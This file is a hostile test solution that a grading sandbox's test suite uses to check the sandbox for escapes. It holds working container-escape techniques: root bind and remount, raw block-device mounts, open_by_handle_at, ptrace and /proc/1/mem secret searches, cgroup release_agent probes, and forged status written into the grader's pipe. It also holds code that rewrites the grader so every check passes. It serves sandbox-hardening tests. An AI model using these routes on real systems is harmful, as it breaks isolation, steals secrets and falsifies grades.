#!/usr/bin/env python3
"""A hostile solution of exercise uts: it tries to leave the grading sandbox.

tests/test_grader_escapes.py copies this file as `uts/solution` of a
student's workspace, with `targets.json` beside it: the route to try and
the paths (and file handles) of what lies outside, as a determined student
would find them by looking around.  The solution tries the route, then
behaves as the starter does (exit 1): its honest grade is the starter's.

Every attempt is harmless when it works: it reads the canaries (files whose
contents are random tokens), appends to the copy of the kit's
grader/report.py that the test made for the purpose, and to the test's
tripwire file; it never writes a kernel setting with an effect (it opens
for writing and says "writable", or writes back the value it read), and it
loads no module and no kernel (invalid arguments: EPERM against EINVAL).
What it achieved is printed on its terminal ("ESCAPED route: what"), which
the test reads in the report's transcripts; the test judges from outside
(the kit's hashes, the tripwire, the tokens nowhere, the grade).
"""

import ctypes
import errno
import json
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.mount.argtypes = [ctypes.c_char_p, ctypes.c_char_p, ctypes.c_char_p, ctypes.c_ulong,
                       ctypes.c_char_p]
libc.syscall.restype = ctypes.c_long

MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC = 1, 32, 4096, 16384
MNT_DETACH = 2
SCRATCH = "/tmp/scratch"

HERE = os.path.dirname(os.path.abspath(__file__))
with open(os.path.join(HERE, "targets.json")) as f:
    T = json.load(f)
ROUTE = T["route"]
# Appended to the kit's report.py: a grader that imports it after the run
# reports every check passed (what the hostile review did).
WRAPPER = """
# ESCAPED: appended by a student's solution
def _escaped_to_json(report, _to_json=to_json):
    data = _to_json(report)
    for e in data["exercises"]:
        for c in e["checks"]:
            c["passed"], c["points"] = True, c["max_points"]
        e["score"] = e["max_score"]
    data["score"] = data["max_score"]
    return data


to_json = _escaped_to_json
"""


def say(text):
    print(f"{text}", flush=True)


def err():
    e = ctypes.get_errno()
    return errno.errorcode.get(e, str(e))


def mount(source, target, fstype, flags, data=None):
    enc = (lambda s: None if s is None else os.fsencode(s))
    if libc.mount(enc(source), enc(target), enc(fstype), flags, enc(data)) != 0:
        return err()
    return None


def umount(target, flags=MNT_DETACH):
    return None if libc.umount2(os.fsencode(target), flags) == 0 else err()


def folder(name):
    path = os.path.join(SCRATCH, name)
    os.makedirs(path, exist_ok=True)
    return path


def _append(path, text):
    """Append TEXT to the file PATH, which must exist (never create one on the machine)."""
    fd = os.open(path, os.O_RDWR | os.O_APPEND)
    with open(fd, "r+") as f:
        if "ESCAPED" not in f.read():
            f.write(text)


def loot(prefix, how):
    """Through PREFIX (a path that would be the machine's root), read and write what is outside."""
    got, last = [], None
    for name in ("victim_canary", "kit_canary"):
        try:
            with open(prefix + T[name], "rb") as f:
                got.append(f"read {name}: {f.read(200)!r}")
        except OSError as e:
            last = e.errno
    for name, text, what in (("report_py", WRAPPER, "appended to the kit's grader/report.py"),
                             ("tripwire", f"ESCAPED {ROUTE}\n", "wrote the tripwire")):
        try:
            _append(prefix + T[name], text)
            got.append(what)
        except OSError as e:
            last = e.errno
    if got:
        say(f"ESCAPED {ROUTE}: through {how}: " + "; ".join(got))
        return True
    say(f"blocked {ROUTE}: {how}: {errno.errorcode.get(last, last)}")
    return False


# The routes ------------------------------------------------------------------------

def bind_root_then_remount_rw():
    """The reported hole: a non-recursive bind of / has none of the covers; make it writable."""
    where = folder("root")
    problem = mount("/", where, None, MS_BIND) or mount(None, where, None, MS_REMOUNT | MS_BIND)
    if problem:
        say(f"blocked {ROUTE}: bind or remount: {problem}")
    loot(where, "a bind of / remounted read-write")


def rbind_root_then_umount_covers():
    where = folder("root")
    problem = mount("/", where, None, MS_BIND | MS_REC)
    if problem:
        say(f"blocked {ROUTE}: rbind: {problem}")
        return
    for target in sorted(T["covered"], key=len, reverse=True):
        for _ in range(4):  # a cover under a cover
            umount(where + target)
    for target in (T["base"], "/tmp", "/var"):
        umount(where + target)
    mount(None, where, None, MS_REMOUNT | MS_BIND)
    loot(where, "a recursive bind of / without its covers")


def umount_covers_then_remount_root_rw():
    for target in sorted(T["covered"], key=len, reverse=True):
        for _ in range(4):
            umount(target)
    mount(None, "/", None, MS_REMOUNT | MS_BIND)
    loot("", "umount of the covers and / remounted read-write")


def remount_root_rw():
    problem = mount(None, "/", None, MS_REMOUNT | MS_BIND)
    if problem:
        say(f"blocked {ROUTE}: remount: {problem}")
    loot("", "/ remounted read-write")


def _root_device():
    with open("/proc/self/mountinfo") as f:
        for line in f:
            fields = line.split()
            if fields[4] == "/":
                sep = fields.index("-")
                return fields[2], fields[sep + 1], fields[sep + 2]
    raise SystemExit("no / in mountinfo")


def _devname(majmin):
    try:
        with open(f"/sys/dev/block/{majmin}/uevent") as f:
            for line in f:
                if line.startswith("DEVNAME="):
                    return "/dev/" + line.split("=", 1)[1].strip()
    except OSError:
        pass
    return None


def mount_block_device():
    majmin, fstype, source = _root_device()
    disk = folder("disk")
    for dev in dict.fromkeys(filter(None, [_devname(majmin), source])):
        problem = mount(dev, disk, fstype, 0)
        if problem is None:
            loot(disk, f"a mount of {dev}")
            return
        say(f"blocked {ROUTE}: mount {dev}: {problem}")


def mknod_block_device():
    majmin, fstype, _ = _root_device()
    major, minor = (int(x) for x in majmin.split(":"))
    devs, disk = folder("devs"), folder("disk")
    problem = mount("tmpfs", devs, "tmpfs", 0, "size=16k")  # without nodev
    node = os.path.join(devs, "disk")
    try:
        os.mknod(node, 0o600 | 0o060000, os.makedev(major, minor))
    except OSError as e:
        say(f"blocked {ROUTE}: mknod: {errno.errorcode.get(e.errno)} (tmpfs: {problem})")
        return
    problem = mount(node, disk, fstype, 0)
    if problem:
        say(f"blocked {ROUTE}: mount of the node: {problem}")
        try:
            with open(node, "rb") as f:
                f.read(4096)
            say(f"ESCAPED {ROUTE}: read the raw disk through a node it made")
        except OSError as e:
            say(f"blocked {ROUTE}: open of the node: {errno.errorcode.get(e.errno)}")
        return
    loot(disk, f"a mount of a node {majmin} it made")


def proc_1_root():
    loot("/proc/1/root", "/proc/1/root")
    loot("/proc/1/cwd/" + "../" * 30, "/proc/1/cwd")


def _roots_in(proc):
    """Every process's root (the same inode as ours, maybe, but seen from its mount namespace)."""
    for pid in sorted((p for p in os.listdir(proc) if p.isdigit()), key=int)[:40]:
        if os.path.isdir(f"{proc}/{pid}/root") and loot(f"{proc}/{pid}/root", f"{proc}/{pid}/root"):
            return True
    return False


def proc_pid_root_of_machine():
    if _roots_in("/proc"):
        return
    fresh = folder("proc")
    problem = mount("proc", fresh, "proc", 0)
    if problem is None and _roots_in(fresh):
        return
    # The sandbox's /proc covers the machine's: take it away.
    problem = umount("/proc")
    if problem:
        say(f"blocked {ROUTE}: umount /proc: {problem}")
        return
    _roots_in("/proc")


def _through_descriptors(pid):
    try:
        fds = os.listdir(f"/proc/{pid}/fd")
    except OSError as e:
        say(f"blocked {ROUTE}: /proc/{pid}/fd: {errno.errorcode.get(e.errno)}")
        return
    for fd in fds:
        if pid == "self" and int(fd) < 3:
            continue
        path = f"/proc/{pid}/fd/{fd}"
        try:
            target = os.readlink(path)
        except OSError:
            continue
        if os.path.isdir(path):
            loot(path + "/.." * 40, f"descriptor {fd} of {pid} ({target})")
        else:
            say(f"seen {ROUTE}: descriptor {fd} of {pid}: {target}")


def inherited_descriptors():
    _through_descriptors("self")


def descriptors_of_the_sandbox_init():
    _through_descriptors("1")


class FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
                ("f_handle", ctypes.c_ubyte * 128)]


def open_by_handle_at():
    """The 'shocker' escape: a handle names a file by inode, whatever covers its path."""
    mount_fd = os.open("/etc", os.O_RDONLY | os.O_DIRECTORY)
    got = []
    for name, flags in (("victim_canary", os.O_RDONLY), ("kit_canary", os.O_RDONLY),
                        ("report_py", os.O_WRONLY | os.O_APPEND)):
        kind, data = T["handles"][name]
        data = bytes.fromhex(data)
        fh = FileHandle(len(data), kind)
        ctypes.memmove(fh.f_handle, data, len(data))
        fd = libc.open_by_handle_at(mount_fd, ctypes.byref(fh), flags)
        if fd < 0:
            say(f"blocked {ROUTE}: {name}: {err()}")
            continue
        if flags == os.O_RDONLY:
            got.append(f"read {name}: {os.read(fd, 200)!r}")
        else:
            os.write(fd, WRAPPER.encode())
            got.append("appended to the kit's grader/report.py")
        os.close(fd)
    if got:
        say(f"ESCAPED {ROUTE}: " + "; ".join(got))


PTRACE_PEEKDATA, PTRACE_DETACH, PTRACE_SEIZE, PTRACE_INTERRUPT = 2, 17, 0x4206, 0x4207


def ptrace_the_sandbox_init():
    """Attach to PID 1 and look through its memory for the grader's secrets.

    PID 1 is a clean reaper exec'd in the sandbox's user namespace, where the
    solution holds CAP_SYS_PTRACE: attaching works, by design.  An escape is
    finding something of the grader's in it."""
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(PTRACE_SEIZE, 1, None, None) != 0:
        say(f"blocked {ROUTE}: PTRACE_SEIZE of 1: {err()}")
        return
    libc.ptrace(PTRACE_INTERRUPT, 1, None, None)
    import time
    for _ in range(200):
        pid, _status = os.waitpid(1, os.WNOHANG | 0x40000000)  # __WALL
        if pid:
            break
        time.sleep(0.01)
    try:
        _search_memory_of_init()
    finally:
        libc.ptrace(PTRACE_DETACH, 1, None, None)


def read_memory_of_the_sandbox_init():
    """The grader's memory: its environment (Python keeps a copy), other students' results."""
    _search_memory_of_init()


def _search_memory_of_init():
    name = T["secret_name"].encode() + b"="
    try:
        mem = open("/proc/1/mem", "rb", buffering=0)
        maps = open("/proc/1/maps").read().splitlines()
    except OSError as e:
        say(f"blocked {ROUTE}: /proc/1/mem: {errno.errorcode.get(e.errno)}")
        return
    read = 0
    for line in maps:
        span, perms = line.split()[:2]
        if "r" not in perms:
            continue
        start, end = (int(x, 16) for x in span.split("-"))
        if end - start > 64 << 20:
            continue
        try:
            mem.seek(start)
            chunk = mem.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        read += len(chunk)
        for secret in (name, b"grader", b"NSLAB_CGROUP_PREFIX"):
            at = chunk.find(secret)
            if at >= 0:
                say(f"ESCAPED {ROUTE}: the grader's memory: {chunk[at:at + len(secret) + 40]!r}")
                return
    say(f"blocked {ROUTE}: read {read} bytes of PID 1, none of them the grader's")


def status_pipe_of_the_sandbox_init():
    """PID 1 reports the solution's end to the grader through a pipe that /proc/1/fd shows:
    garbage, a made-up setup error and a made-up exit 0 written into it."""
    lies = (b"\x00garbage{\n[1, 2]\n\"event\"\n"
            b'{"event": "setup_error", "message": "made up"}\n'
            b'{"event": "exit", "status": 0}\n{"event": "exit"}\n')
    wrote = 0
    for fd in os.listdir("/proc/1/fd"):
        try:
            if not os.readlink(f"/proc/1/fd/{fd}").startswith("pipe:"):
                continue
            out = os.open(f"/proc/1/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
            os.write(out, lies)
            os.close(out)
            wrote += 1
        except OSError as e:
            say(f"blocked {ROUTE}: /proc/1/fd/{fd}: {errno.errorcode.get(e.errno)}")
    say(f"wrote lies into {wrote} pipes of PID 1")


def read_environ_of_the_sandbox_init():
    try:
        with open("/proc/1/environ", "rb") as f:
            data = f.read()
    except OSError as e:
        say(f"blocked {ROUTE}: {errno.errorcode.get(e.errno)}")
        return
    if T["secret_name"].encode() in data:
        say(f"ESCAPED {ROUTE}: {data!r}")


def _writable(path):
    """Open PATH for writing and write nothing: an open that succeeds is the finding."""
    try:
        fd = os.open(path, os.O_WRONLY)
    except OSError as e:
        return errno.errorcode.get(e.errno)
    os.close(fd)
    return None


def sys_kernel_settings():
    for path in ("/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/ksm/run",
                 "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/module/printk/parameters/time"):
        problem = _writable(path)
        if problem is None:
            say(f"ESCAPED {ROUTE}: {path} is writable (nothing written)")
        elif problem != "ENOENT":
            say(f"blocked {ROUTE}: {path}: {problem}")


def load_a_module_or_a_kernel():
    """Invalid arguments: without the capability EPERM; with it, the argument's error."""
    calls = {"init_module": (175, [None, 0, b""]), "finit_module": (313, [-1, b"", 0]),
             "kexec_load": (246, [0, 1000, None, 0xdead0000]),
             "kexec_file_load": (320, [-1, -1, 0, None, 0xdead0000])}
    for name, (number, args) in calls.items():
        ctypes.set_errno(0)
        if libc.syscall(number, *(ctypes.c_void_p(a) if a is None else a for a in args)) == 0:
            say(f"ESCAPED {ROUTE}: {name} succeeded")
            continue
        e = err()
        if e in ("EPERM", "ENOSYS"):  # ENOSYS: a kernel without modules or kexec
            say(f"blocked {ROUTE}: {name}: {e}")
        else:
            say(f"ESCAPED {ROUTE}: {name} passed the permission check ({e})")


def proc_sys_settings():
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe",
                 "/proc/sys/kernel/sysrq", "/proc/sys/vm/drop_caches"):
        problem = _writable(path)
        if problem is None:
            say(f"ESCAPED {ROUTE}: {path} is writable (nothing written)")
        else:
            say(f"blocked {ROUTE}: {path}: {problem}")
    # The sandbox's own hostname: allowed, and the test checks the machine's from outside.
    try:
        with open("/proc/sys/kernel/hostname", "w") as f:
            f.write("escaped-" + os.urandom(4).hex())
    except OSError as e:
        say(f"blocked {ROUTE}: kernel/hostname: {errno.errorcode.get(e.errno)}")


def _write_same(path):
    """Write back what PATH holds: only the permission check can make a difference."""
    try:
        with open(path) as f:
            value = f.read()
        with open(path, "w") as f:
            f.write(value if value.strip() else "\n")
    except OSError as e:
        return errno.errorcode.get(e.errno)
    return None


def cgroup1_release_agent():
    with open("/proc/cgroups") as f:
        controllers = [line.split()[0] for line in f if not line.startswith("#")
                       and line.split()[1] != "0"]
    for options in [*controllers, "none,name=nslab-escape"]:
        where = folder("cg1-" + options.replace(",", "-").replace("=", "-"))
        problem = mount("cgroup", where, "cgroup", 0, options)
        if problem:
            say(f"blocked {ROUTE}: mount -o {options}: {problem}")
            continue
        agent = os.path.join(where, "release_agent")
        if os.path.exists(agent):
            problem = _write_same(os.path.join(where, "notify_on_release")) or _write_same(agent)
            if problem is None:
                say(f"ESCAPED {ROUTE}: -o {options}: release_agent written (with its own value)")
            else:
                say(f"blocked {ROUTE}: -o {options}: release_agent: {problem}")
        umount(where)


def _own_cgroup_files(name):
    """Each hierarchy this process can mount, its own cgroup's NAME file."""
    found = []
    with open("/proc/self/cgroup") as f:
        lines = [line.rstrip("\n").split(":", 2) for line in f]
    for _, controllers, path in lines:
        where = folder("cg-" + (controllers or "unified").replace(",", "-").replace("=", "-"))
        fstype, options = ("cgroup2", None) if not controllers else ("cgroup", controllers)
        if mount(fstype, where, fstype, 0, options):
            continue
        found.append(os.path.join(where + path, name))
    return found


def cgroup_own_limits():
    for path in _own_cgroup_files("pids.max") + _own_cgroup_files("memory.limit_in_bytes"):
        if os.path.exists(path):
            problem = _write_same(path)
            say(f"ESCAPED {ROUTE}: {path} written (with its own value)" if problem is None
                else f"blocked {ROUTE}: {path}: {problem}")


def cgroup_move_to_the_root():
    # The sandbox's /sys covers the machine's, with its cgroup mounts: take it away.
    umount("/sys")
    pid = str(os.getpid()).encode()
    base = "/sys/fs/cgroup"
    roots = [base] + ([os.path.join(base, d) for d in os.listdir(base)] if os.path.isdir(base) else [])
    for root in roots:
        procs = os.path.join(root, "cgroup.procs")
        if not os.path.exists(procs):
            continue
        try:
            with open(procs, "wb") as f:
                f.write(pid)
            say(f"ESCAPED {ROUTE}: moved itself to {root}")
        except OSError as e:
            say(f"blocked {ROUTE}: {procs}: {errno.errorcode.get(e.errno)}")
    with open("/proc/self/cgroup") as f:
        for line in f:
            if "/.." in line:
                say(f"ESCAPED {ROUTE}: now outside its cgroup namespace: {line.strip()}")


def none():
    """The control: no attempt; the honest grade of this solution."""


def main():
    try:
        globals()[ROUTE]()
    except Exception as e:  # noqa: BLE001 - an attempt that breaks is blocked; the grade goes on
        say(f"blocked {ROUTE}: {type(e).__name__}: {e}")
    say(f"tried {ROUTE}")
    print("TODO: write the solution", file=sys.stderr)  # the starter's behaviour
    return 1


if __name__ == "__main__":
    sys.exit(main())
